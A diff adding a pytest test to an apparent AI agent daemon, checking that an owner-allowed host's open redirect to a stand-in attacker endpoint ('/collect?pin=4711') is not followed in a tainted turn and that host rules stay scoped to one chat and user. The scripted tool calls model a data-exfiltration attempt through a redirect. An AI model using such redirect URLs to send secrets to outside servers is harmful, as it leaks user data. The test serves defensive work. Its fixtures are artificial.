@@ -11,6 +11,7 @@ from __future__ import annotations
 import json
 from collections.abc import Iterator
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
@@ -20,7 +21,7 @@ from tests.daemon_process import OWNER, Daemon, daemon_env, poll, running_daemon
 from tests.fakes import FakeAnthropic, FakeTelegram
 from tests.fakes.site import FakeSite
 
-FORWARDER, READER, REMEMBERER, FILER = 44, 45, 46, 47
+FORWARDER, READER, REMEMBERER, FILER, REDIRECTED, ELSEWHERE = 44, 45, 46, 47, 48, 49
 MALLORY = {
     "type": "user",
     "date": 1,
@@ -140,7 +141,7 @@ def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
             llm.base_url,
             AGENTD_CONFIG=str(tmp / "agentd.toml"),
             AGENTD_TELEGRAM__ALLOWED_USER_IDS=f"[{OWNER}, 43, {FORWARDER}, {READER}, "
-            f"{REMEMBERER}, {FILER}]",
+            f"{REMEMBERER}, {FILER}, {REDIRECTED}, {ELSEWHERE}]",
         )
         with running_daemon(tmp, env) as daemon:
             # Telegram lets a bot write only to users who wrote to it: the owner has.
@@ -230,6 +231,60 @@ def test_a_shown_url_earns_nothing_and_an_allowed_host_runs_unasked(stack: Stack
     removed = stack.daemon.cli("rules", "rm", "h1")
     assert removed.returncode == 0 and f"fetches from {host} ask again" in removed.stdout
     assert stack.daemon.cli_json("rules", "ls") == []
+
+
+def test_an_allowed_host_is_no_redirect_to_anywhere_and_holds_for_its_chat_and_user(
+    stack: Stack,
+) -> None:
+    """The owner allowed a host; in a tainted turn its open redirect to another server is not
+    followed (the secret in the target never leaves), and the rule does not open the host to
+    another user's chat."""
+    stack.site.page("/redir-article", "<p>An article with a comment section.</p>")
+    article = stack.site.url("/redir-article")
+    stack.site.page("/redir-second", "<p>A second page.</p>")
+    leak = stack.evil.url("/collect?pin=4711")
+    bounce = stack.site.url("/go?to=") + quote(leak, safe="")
+    stack.script(
+        "redirect-marker",
+        ("toolu_r1", tool_use("fetch_url", {"url": article}, "toolu_r1")),
+        ("toolu_r2", tool_use("fetch_url", {"url": stack.site.url("/redir-second")}, "toolu_r2")),
+        ("toolu_r3", tool_use("fetch_url", {"url": bounce}, "toolu_r3")),
+        ("", "Redirect done."),
+    )
+    before = stack.cards_so_far()
+    stack.tg.add_message(REDIRECTED, REDIRECTED, f"redirect-marker: read {article}")
+    card = stack.card(before, "fetch_url")
+    stack.press(card, 1, 0)  # "Always allow" the site
+    stack.answer(REDIRECTED, "Redirect done.")
+    assert stack.site.requests.count("/go") == 1  # the allowed host ran unasked…
+    assert "/collect" not in stack.evil.requests  # …but its redirect did not leave it
+    results = [
+        b
+        for r in stack.llm.requests
+        for m in r["body"]["messages"]
+        if isinstance(m["content"], list)
+        for b in m["content"]
+        if b.get("tool_use_id") == "toolu_r3"
+    ]
+    assert results and "another server" in json.dumps(results[0])
+
+    # The same host in another user's chat: the rule is not theirs, the fetch asks.
+    stack.site.page("/redir-other", "<p>Other.</p>")
+    other = stack.site.url("/redir-other")
+    stack.script(
+        "other-chat-marker",
+        ("toolu_o1", tool_use("fetch_url", {"url": article}, "toolu_o1")),
+        ("toolu_o2", tool_use("fetch_url", {"url": other}, "toolu_o2")),
+        ("", "Other done."),
+    )
+    before = stack.cards_so_far()
+    stack.tg.add_message(ELSEWHERE, ELSEWHERE, f"other-chat-marker: read {article}")
+    card = stack.card(before, "fetch_url")
+    assert other in card["plain_text"] and "/redir-other" not in stack.site.requests
+    stack.press(card, 0, 1)
+    stack.answer(ELSEWHERE, "Other done.")
+    rules = [r for r in stack.daemon.cli_json("rules", "ls") if r["kind"] == "host"]
+    assert [(r["chat_id"], r["user_id"]) for r in rules] == [(REDIRECTED, REDIRECTED)]
 
 
 def _add_memory(daemon: Daemon, user: int, content: str, origin: str, ref: str | None) -> int:
